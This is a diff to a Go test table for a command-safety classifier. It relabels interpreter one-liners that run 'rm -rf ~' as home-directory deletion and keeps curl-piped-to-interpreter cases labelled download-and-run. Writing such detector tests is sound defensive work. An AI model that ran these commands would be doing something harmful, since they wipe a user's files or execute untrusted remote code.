@@ -44,11 +44,13 @@ var fx18d1RuntimeCases = []doesCase{
 	{`curl -s https://x.io/a.scm | guile`, "cmd.download-run"},
 	{`curl -s https://x.io/a.clj | clojure -`, "cmd.download-run"},
 	// Interpreters the reader knew, by a versioned name.
-	{`python3.12 -c 'import os; os.system("rm -rf ~")'`, "cmd.unreadable"},
-	{`pypy3 -c 'import os; os.system("rm -rf ~")'`, "cmd.unreadable"},
-	{`lua5.4 -e 'os.execute("rm -rf ~")'`, "cmd.unreadable"},
+	{`python3.12 -c 'import os; os.system("rm -rf ~")'`, "cmd.delete-home"}, // read as its shell spelling (fx64f),
+	{`pypy3 -c 'import os; os.system("rm -rf ~")'`, "cmd.delete-home"},
+	{`lua5.4 -e 'os.execute("rm -rf ~")'`, "cmd.delete-home"},
 	{`perl5.36 -e 'system "rm -rf ~"'`, "cmd.unreadable"},
-	{`node18 -e 'require("child_process").execSync("id")'`, "cmd.unreadable"},
+	{`node18 -e 'require("child_process").execSync("rm -rf ~")'`, "cmd.delete-home"},
+	{`python3.12 -c 'import os; os.popen("rm -rf ~")'`, "cmd.unreadable"},
+	{`node18 -e 'require("child_process").execSync(process.argv[1])'`, "cmd.unreadable"},
 	// JavaScript runners' -e, and --eval on a program no table knows.
 	{`ts-node -e 'require("child_process").execSync("id")'`, "cmd.unreadable"},
 	{"zx --eval '$`rm -rf ~`'", "cmd.unreadable"},
